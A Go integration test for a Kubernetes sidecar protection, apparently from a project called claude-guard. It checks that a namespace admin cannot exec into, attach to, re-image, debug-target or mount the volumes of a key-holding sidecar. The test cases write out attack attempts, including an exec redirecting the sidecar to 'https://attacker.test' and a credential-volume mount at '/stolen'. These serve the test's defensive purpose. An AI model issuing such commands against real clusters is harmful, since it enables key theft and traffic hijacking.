//go:build integration

package isolation

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/claude-guard/claude-guard/internal/inject"
	"github.com/claude-guard/claude-guard/internal/test/wait"
	"github.com/claude-guard/claude-guard/internal/wellknown"
)

// TestNamespaceAdminCannotReachIntoTheSidecar: an admin of acme (the built-in "admin" role, which allows
// exec, attach and pod updates, and a role for ephemeral containers) can still do all of that to the app container, but
// not to the injected sidecar, which holds the namespace's key: the chart's sidecar protection refuses
// each with a message that says why. This API server has no kubelet, so an allowed exec fails later, at
// the connection to a node the pod was never scheduled to; what is asserted is who refused it.
func TestNamespaceAdminCannotReachIntoTheSidecar(t *testing.T) {
	ctx := context.Background()
	bindAdmin(t, "carol")
	mustApply(t, `
# Kubernetes' admin role does not include ephemeral containers; many platforms grant them for debugging.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: debugger, namespace: acme}
rules: [{apiGroups: [""], resources: [pods/ephemeralcontainers], verbs: [get, patch, update]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: carol-debugger, namespace: acme}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: carol}]
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: debugger}
---
apiVersion: v1
kind: Pod
metadata: {name: debugged, namespace: acme}
spec:
  serviceAccountName: chat
  containers: [{name: app, image: example.com/chat:1}]
`)
	if err := env.AggregateClusterRole(ctx, "admin"); err != nil {
		t.Fatal(err)
	}
	pod := &corev1.Pod{}
	if err := env.Client.Get(ctx, client.ObjectKey{Namespace: "acme", Name: "debugged"}, pod); err != nil {
		t.Fatal(err)
	}
	if pod.Annotations[wellknown.AnnotationStatus] != wellknown.StatusInjected {
		t.Fatalf("the pod was not injected: %v", pod.Annotations)
	}
	sidecar := wellknown.SidecarContainerName
	carol := []string{"--as", "carol", "-n", "acme"}
	const (
		execRefused   = "the claude-guard sidecar container of pod debugged cannot be exec-ed into"
		attachRefused = "the claude-guard sidecar container of pod debugged cannot be attached to"
		imageRefused  = "the image of the claude-guard sidecar container of pod debugged cannot be changed"
		targetRefused = "an ephemeral container of pod debugged cannot target the claude-guard sidecar container"
	)
	cases := []struct {
		name string
		args []string
		// refused is the protection's message; "" means the protection lets it through.
		refused string
	}{
		{"exec into the sidecar", []string{"exec", "debugged", "-c", sidecar, "--", "/sidecar", "--upstream=https://attacker.test"}, execRefused},
		{"attach to the sidecar", []string{"attach", "debugged", "-c", sidecar}, attachRefused},
		{"exec into the app", []string{"exec", "debugged", "-c", "app", "--", "true"}, ""},
		{"exec without naming a container", []string{"exec", "debugged", "--", "true"}, ""},
		{"change the sidecar's image", []string{"set", "image", "pod/debugged", sidecar + "=example.com/printer:1"}, imageRefused},
		{"debug targeting the sidecar", []string{"debug", "debugged", "--image=example.com/shell:1", "--target=" + sidecar, "--container=peek", "--attach=false"}, targetRefused},
		{"debug next to the app", []string{"debug", "debugged", "--image=example.com/shell:1", "--target=app", "--container=helper", "--attach=false"}, ""},
		{"change the app's image", []string{"set", "image", "pod/debugged", "app=example.com/chat:2"}, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			// The policy is loaded asynchronously with the config protection: retry until it answers.
			wait.For(t, 20*time.Second, "the sidecar protection's answer", func() error {
				// The flags first: whatever follows "--" is the command's.
				out, err := kubectl("", append(append([]string{}, carol...), tc.args...)...)
				switch {
				case tc.refused != "" && (err == nil || !strings.Contains(out, tc.refused)):
					return fmt.Errorf("want refused with %q, got %w:\n%s", tc.refused, err, out)
				case tc.refused == "" && strings.Contains(out, "ValidatingAdmissionPolicy"):
					return fmt.Errorf("want it let through by the sidecar protection, got %w:\n%s", err, out)
				case tc.refused == "" && strings.Contains(out, `User "carol" cannot`):
					return fmt.Errorf("RBAC refused carol, which the test meant to allow:\n%s", out)
				}
				return nil
			})
		})
	}

	// A debug container mounting any of the sidecar's volumes (config, credentials), by the API (kubectl
	// debug cannot add mounts).
	var vols []string
	for _, v := range pod.Spec.Volumes {
		if strings.HasPrefix(v.Name, "claude-guard-") {
			vols = append(vols, v.Name)
		}
	}
	if !slices.Contains(vols, inject.VolumeConfig) {
		t.Fatalf("the injected pod has no volume %s: %v", inject.VolumeConfig, vols)
	}
	for _, vol := range vols {
		t.Run("an ephemeral container mounting "+vol, func(t *testing.T) {
			err := addEphemeral(ctx, impersonating(t, "carol"), corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
				Name: "reader-" + strings.TrimPrefix(vol, "claude-guard-"), Image: "example.com/shell:1",
				VolumeMounts: []corev1.VolumeMount{{Name: vol, MountPath: "/stolen"}},
			}})
			const want = "an ephemeral container of pod debugged cannot mount the claude-guard sidecar's volumes"
			if err == nil || !strings.Contains(err.Error(), want) {
				t.Fatalf("want refused with %q, got %v", want, err)
			}
		})
	}
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(pod), pod); err != nil {
		t.Fatal(err)
	}
	if img := pod.Spec.InitContainers[0].Image; img != inject.DefaultConfig().Image {
		t.Errorf("the sidecar's image is %s now", img)
	}
	var names []string
	for _, e := range pod.Spec.EphemeralContainers {
		names = append(names, e.Name)
	}
	if strings.Join(names, ",") != "helper" {
		t.Errorf("ephemeral containers = %v, want only the one next to the app", names)
	}
}

// addEphemeral adds e to acme/debugged through the ephemeralcontainers subresource, as kubectl debug does.
func addEphemeral(ctx context.Context, c client.Client, e corev1.EphemeralContainer) error {
	pod := &corev1.Pod{}
	if err := c.Get(ctx, client.ObjectKey{Namespace: "acme", Name: "debugged"}, pod); err != nil {
		return err
	}
	pod.Spec.EphemeralContainers = append(pod.Spec.EphemeralContainers, e)
	if err := c.SubResource("ephemeralcontainers").Update(ctx, pod); err != nil {
		return fmt.Errorf("failed to add ephemeral container %s: %w", e.Name, err)
	}
	return nil
}
